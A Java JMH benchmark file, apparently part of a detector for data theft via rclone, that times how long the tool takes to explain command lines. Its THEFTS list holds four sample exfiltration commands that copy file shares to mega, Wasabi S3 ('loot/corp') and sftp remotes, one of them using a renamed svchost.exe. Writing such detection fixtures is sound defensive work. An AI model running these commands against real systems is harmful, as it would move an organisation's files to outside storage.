package exfilwatch.rclone;

import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;
import org.openjdk.jmh.runner.Runner;
import org.openjdk.jmh.runner.RunnerException;
import org.openjdk.jmh.runner.options.OptionsBuilder;

/** What one command line costs: the full explanation, and the test before it. */
@State(Scope.Benchmark)
@BenchmarkMode(Mode.AverageTime)
@OutputTimeUnit(TimeUnit.NANOSECONDS)
@Fork(1)
@Warmup(iterations = 10, time = 1)
@Measurement(iterations = 4, time = 1)
public class ExplainBenchmark {

  private static final List<String> THEFTS =
      List.of(
          "rclone.exe copy \"\\\\fs01\\Finance\" mega:DATA -q --ignore-existing --auto-confirm"
              + " --multi-thread-streams 7 --transfers 7",
          "C:\\ProgramData\\svchost.exe copy E:\\Files :s3,provider=Wasabi,access_key_id=AKIAX,"
              + "secret_access_key=abcdefghijkl,endpoint=s3.wasabisys.com:loot/corp",
          "rclone sync /srv/data sftp1:/in --max-age 2y --bwlimit 10M --transfers 16",
          "rclone copy D:\\share remote:corp --config C:\\Temp\\r.conf --progress");

  private static final List<String> ORDINARY =
      List.of(
          "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
          "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer"
              + " --lang=en-US --device-scale-factor=1 --num-raster-threads=4"
              + " --renderer-client-id=12",
          "/usr/lib/systemd/systemd-journald",
          "git.exe -c core.quotepath=false rev-parse --show-toplevel");

  private int next;

  @Benchmark
  public Explanation explain() {
    return Rclone.explain(THEFTS.get(next++ & 3), null, null, Map.of());
  }

  @Benchmark
  public String explainAsJson() {
    return Rclone.explain(THEFTS.get(next++ & 3), null, null, Map.of()).toJson();
  }

  @Benchmark
  public boolean precheck() {
    return GrammarPrecheck.cannotBeRclone(ORDINARY.get(next++ & 3));
  }

  public static void main(String[] args) throws RunnerException {
    new Runner(new OptionsBuilder().include(ExplainBenchmark.class.getSimpleName()).build()).run();
  }
}
